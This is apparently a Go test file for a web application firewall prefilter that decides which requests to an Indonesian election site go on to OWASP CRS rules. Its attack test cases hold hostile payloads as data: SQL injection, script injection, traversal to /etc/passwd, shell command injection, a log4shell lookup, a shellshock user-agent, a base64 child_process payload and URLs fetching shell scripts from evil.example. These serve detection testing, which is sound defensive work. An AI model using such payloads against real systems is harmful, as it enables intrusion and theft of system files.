package crs

import (
	"testing"

	"github.com/garda-id/garda/internal/event"
)

func request(method, target, ua, referer string) *event.Event {
	ev := &event.Event{}
	ev.Set(event.SourceIP, "36.64.0.10")
	ev.Set(event.HTTPMethod, method)
	ev.Set(event.URLOriginal, target)
	ev.Set(event.HTTPVersion, "1.1")
	ev.Set(event.UserAgent, ua)
	ev.Set(event.Referrer, referer)
	return ev
}

const (
	uaChrome  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
	uaAndroid = "Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0 Mobile Safari/537.36"
	uaFB      = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21E236 [FBAN/FBIOS;FBAV/460.0.0.48.109;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBLC/id_ID;FBOP/5;FBRV/600171937]"
	uaGoogle  = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
)

func newTestPrefilter(t testing.TB) *Prefilter {
	t.Helper()
	p, err := NewPrefilter(Options{})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// The ordinary requests of an election site must skip CRS.
func TestPrefilterSkipsOrdinary(t *testing.T) {
	p := newTestPrefilter(t)
	for _, tc := range []struct{ method, target, ua, referer string }{
		{"GET", "/berita/123/judul-berita", uaChrome, "-"},
		{"GET", "/static/js/app.3.js", uaChrome, "https://kpu.example.id/"},
		{"GET", "/hasil/dpr/prov/32", uaAndroid, "https://kpu.example.id/hasil/pilpres"},
		{"GET", "/cek-dpt?nik=3171234567890001", uaAndroid, "https://kpu.example.id/cek-dpt"},
		{"GET", "/?page=2&sort=date", uaChrome, "-"},
		{"GET", "/api/dpt/cek?nik=6139196932302020", uaChrome, "https://kpu.example.id/cek-dpt"},
		{"POST", "/login", uaChrome, "https://kpu.example.id/login"},
		{"HEAD", "/", uaChrome, "-"},
		{"GET", "/favicon.ico", uaFB, "-"},
		{"GET", "/robots.txt", uaGoogle, "-"},
		{"GET", "/hasil/pilpres.json", uaAndroid, "-"},
		{"GET", "/cari?q=jadwal+pemungutan+suara", uaAndroid, "https://www.google.com/search?q=jadwal+pemilu"},
		{"GET", "/cari?q=pemilu%202024", uaChrome, "-"},
		{"GET", "/berita?tag=pemilu,pilpres", uaChrome, "-"}, // a comma, but no hex digit at the end
		{"GET", "/infopemilu/caleg/4476?utm_source=facebook&utm_medium=social&utm_campaign=pemilu2024", uaFB, "http://m.facebook.com/"},
		{"GET", "/berita/5/debat?fbclid=IwAR2xK9v3bQm7Lq8PZ5nT0rY1cXhD4aE6fG", uaFB, "-"},
		// Clients whose names are also shell commands or CRS phrases, which
		// CRS does not flag in these forms.
		{"GET", "/healthz", "curl/8.5.0", "-"},
		{"GET", "/api/dpt/cek?nik=6139196932302020", "python-requests/2.31.0", "-"},
		{"GET", "/", "Java/1.8.0_151", "-"},
		{"GET", "/", "Wget/1.21.4", "-"},
		{"GET", "/", "Go-http-client/1.1", "-"},
	} {
		if p.Suspicious(request(tc.method, tc.target, tc.ua, tc.referer)) {
			t.Errorf("%s %s (UA %.20s, referer %s): suspicious, want skipped", tc.method, tc.target, tc.ua, tc.referer)
		}
	}
}

// Requests CRS flags must pass, whatever the field that carries the
// payload.
func TestPrefilterPassesAttacks(t *testing.T) {
	p := newTestPrefilter(t)
	for _, tc := range []struct{ why, method, target, ua, referer string }{
		{"quote", "GET", "/cari?id=1'+or+'1'='1", uaChrome, "-"},
		{"encoded quote", "GET", "/cari?id=1%27%20OR%20%271%27%3D%271", uaChrome, "-"},
		{"sql words", "GET", "/berita?q=1+union+select+username+from+users", uaChrome, "-"},
		{"script tag", "GET", "/cari?q=%3Cscript%3Ealert(1)%3C/script%3E", uaChrome, "-"},
		{"traversal", "GET", "/cari?file=../../../../etc/passwd", uaChrome, "-"},
		{"encoded dots", "GET", "/x?path=%2e%2e%2fwindows/win.ini", uaChrome, "-"},
		{"os file, plain", "GET", "/x?f=etc/passwd", uaChrome, "-"},
		{"dot file", "GET", "/.env", uaChrome, "-"},
		{"restricted file", "GET", "/wp-config.php", uaChrome, "-"},
		{"restricted extension", "GET", "/backup.sql", uaChrome, "-"},
		{"backup file", "GET", "/config.php~", uaChrome, "-"},
		{"double slash", "GET", "/x?u=//evil.example/shell.txt", uaChrome, "-"},
		{"remote url", "GET", "/x?u=http://198.51.100.7/x.sh", uaChrome, "-"},
		{"shell separator", "GET", "/cari?cmd=;cat%20/etc/passwd", uaChrome, "-"},
		{"command substitution", "GET", "/x?q=$(id)", uaChrome, "-"},
		{"log4shell", "GET", "/x?u=${jndi:ldap://x/a}", uaChrome, "-"},
		{"shell command alone", "GET", "/cari?q=netstat", uaChrome, "-"},
		{"shell command with argument", "GET", "/cari?q=find+tps", uaChrome, "-"},
		{"php function", "GET", "/x?f=base64_decode", uaChrome, "-"},
		{"base64 node payload", "GET", "/x?q=cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk", uaChrome, "-"},
		{"session fixation", "GET", "/login?jsessionid=abc123", uaChrome, "https://evil.example/"},
		{"null byte", "GET", "/x?f=a%00b", uaChrome, "-"},
		{"double encoding", "GET", "/x?f=%252e%252e", uaChrome, "-"},
		{"malformed encoding", "GET", "/x?f=%zz", uaChrome, "-"},
		{"non-ascii", "GET", "/x?q=\xc0\xae", uaChrome, "-"},
		{"comma and hex end (942200)", "GET", "/hasil?prov=31,32,33", uaChrome, "-"},
		{"value with '='", "GET", "/x?a=b=c", uaChrome, "-"},
		{"second '?'", "GET", "/x?a=b?c", uaChrome, "-"},
		{"method", "PUT", "/x", uaChrome, "-"},
		{"method", "PROPFIND", "/x", uaChrome, "-"},
		{"absolute target", "GET", "http://evil.example/", uaChrome, "-"},
		{"scanner UA", "GET", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "-"},
		{"scanner UA, plain", "GET", "/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:007005)", "-"},
		{"scanner UA, no slash", "GET", "/", "nuclei", "-"},
		{"scanner UA, zgrab", "GET", "/", "Mozilla/5.0 zgrab/0.x", "-"},
		{"shellshock UA", "GET", "/", "() { :; }; /bin/bash -c id", "-"},
		{"command UA", "GET", "/", "id", "-"},
		{"command in UA comment", "GET", "/", "Mozilla/5.0 (X11; nohup x)", "-"},
		{"command starting the UA", "GET", "/", "python3/1.0", "-"},
		{"xss UA", "GET", "/", "Mozilla/5.0 <script>alert(1)</script>", "-"},
		{"sql UA", "GET", "/", "Mozilla/5.0 (X11; drop table users)", "-"},
		{"os file UA", "GET", "/", "Mozilla/5.0 cat /etc/passwd", "-"},
		{"referer payload", "GET", "/", uaChrome, "https://example.com/?q=%27%20or%201=1--"},
		{"referer command", "GET", "/", uaChrome, "https://example.com/cari?q=ls"},
		{"referer not http", "GET", "/", uaChrome, "javascript:alert(1)"},
	} {
		if !p.Suspicious(request(tc.method, tc.target, tc.ua, tc.referer)) {
			t.Errorf("%s: %s %s (UA %q, referer %q) skipped, want passed", tc.why, tc.method, tc.target, tc.ua, tc.referer)
		}
	}
	ev := request("GET", "/", "-", "-")
	ev.Set(event.URLDomain, "203.0.113.5")
	if !p.Suspicious(ev) {
		t.Error("numeric Host without User-Agent (3 + 2 points) skipped, want passed")
	}
	ev.Set(event.UserAgent, uaChrome)
	if p.Suspicious(ev) {
		t.Error("numeric Host alone (3 points) passed, want skipped")
	}
	ev.Set(event.URLDomain, "kpu.example.id:443")
	if p.Suspicious(ev) {
		t.Error("Host with port passed, want skipped")
	}
	ev.Set(event.URLDomain, "kpu.example.id'")
	if !p.Suspicious(ev) {
		t.Error("Host with a quote skipped, want passed")
	}
}

// What paranoia levels 3 and 4 flag that level 2 does not must pass at
// those levels only.
func TestPrefilterFollowsParanoiaLevel(t *testing.T) {
	for _, tc := range []struct {
		target string
		from   int // the lowest level whose prefilter must pass it
	}{
		{"/berita?id=12", 3},           // 932350 reads "id" as a command
		{"/cari?q=pemilu+2024", 4},     // 920273: no space in arguments
		{"/x?next=/berita/1", 4},       // 920273: no '/' in arguments
		{"/hasil?prov=31,32,33", 2},    // 942200
		{"/berita?tag=pemilu,dpr", 10}, // never
	} {
		for pl := 1; pl <= 4; pl++ {
			p, err := NewPrefilter(Options{ParanoiaLevel: pl})
			if err != nil {
				t.Fatal(err)
			}
			if got, want := p.Suspicious(request("GET", tc.target, uaChrome, "-")), pl >= tc.from; got != want {
				t.Errorf("PL%d %s: suspicious %v, want %v", pl, tc.target, got, want)
			}
		}
	}
}

// genlog's and the simulator's benign requests all skip CRS: that is
// what keeps Coraza out of the hot path.
func TestPrefilterBenignSample(t *testing.T) {
	p := newTestPrefilter(t)
	for _, l := range benignSample(t) {
		if p.Suspicious(l.ev) {
			t.Errorf("benign request passed to CRS: %s", l.text)
		}
	}
	ord := readLog(t, "testdata/ordinary.log")
	for _, l := range ord {
		if l.group == "plain" && p.Suspicious(l.ev) {
			t.Errorf("ordinary request passed to CRS: %s", l.text)
		}
	}
}

func TestPrefilterNoPhraseWithoutWords(t *testing.T) {
	p := newTestPrefilter(t)
	for name, ps := range map[string]*wordTable{"target": p.target, "agent": p.agent} {
		if len(ps.uncovered) > 0 {
			t.Errorf("%s phrases neither passed by their bytes nor found by a word: %q", name, ps.uncovered)
		}
	}
}

func BenchmarkPrefilterBenign(b *testing.B) {
	p := newTestPrefilter(b)
	lines := benignSample(b)
	evs := make([]*event.Event, len(lines))
	for i, l := range lines {
		evs[i] = l.ev
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if p.Suspicious(evs[i]) {
			b.Fatal("benign request passed")
		}
		i++
		if i == len(evs) {
			i = 0
		}
	}
}

// BenchmarkPrefilterTarget is the target scan alone: what every request
// costs even when its User-Agent and Referer are cached.
func BenchmarkPrefilterTarget(b *testing.B) {
	p := newTestPrefilter(b)
	targets := []string{"/berita/4952/pengumuman-dpt-pemilu-2024", "/static/js/app.3.js", "/api/dpt/cek?nik=6139196932302020", "/hasil/dpr/prov/32"}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if p.targetSuspicious(targets[i&3]) {
			b.Fatal("benign target passed")
		}
		i++
	}
}

// base64Literals are the fixed strings one of which every match of 934100,
// 934101 and 934160 contains (read from their expressions in CRS 4.25).
var base64Literals = []string{
	"$$ND_FUNC$$", "_js_function", "eval(", "Function", "String.fromCharCod", "Module:prototyp",
	"function(){", "this.constructor", "module.exports=", "child_process", "constructor:constructor",
	"console.", "console[", "process", "binding[", "constructor[", "env[", "global[", "main[",
	"mainModule[", "require", "close", "exists", "fork", "open", "spawn", "read", "watch", "write",
	"while",
}

// The prefilter decodes base64 only in targets holding an upper-case
// letter. That is sound if no base64 text made only of lower-case letters,
// digits, '/' and '+' decodes to one of the literals, at any alignment,
// whatever bytes surround it: this checks it bit by bit.
func TestBase64NeedsUpperCase(t *testing.T) {
	if !encodableLower("cons", 2) {
		t.Fatal(`the check is vacuous: "cons" can be written in lower case at alignment 2`)
	}
	for _, lit := range base64Literals {
		for align := range 3 {
			if encodableLower(lit, align) {
				t.Errorf("%q at alignment %d can be written in base64 without upper-case letters", lit, align)
			}
		}
	}
}

// encodableLower reports whether some base64 text of only a-z, 0-9, '+'
// and '/' (values 26 to 63) decodes to lit starting align bytes into a
// 3-byte group.
func encodableLower(lit string, align int) bool {
	// lit's bits at their place in a stream of 6-bit characters; -1 marks
	// bits of the surrounding bytes, which the writer may choose.
	bits := make([]int, align*8)
	for i := range bits {
		bits[i] = -1
	}
	for _, c := range []byte(lit) {
		for k := 7; k >= 0; k-- {
			bits = append(bits, int(c>>k)&1)
		}
	}
	for len(bits)%6 != 0 {
		bits = append(bits, -1)
	}
	for i := 0; i < len(bits); i += 6 {
		fits := false
		for v := 26; v < 64 && !fits; v++ {
			fits = true
			for j := range 6 {
				if b := bits[i+j]; b >= 0 && v>>(5-j)&1 != b {
					fits = false
					break
				}
			}
		}
		if !fits {
			return false
		}
	}
	return true
}
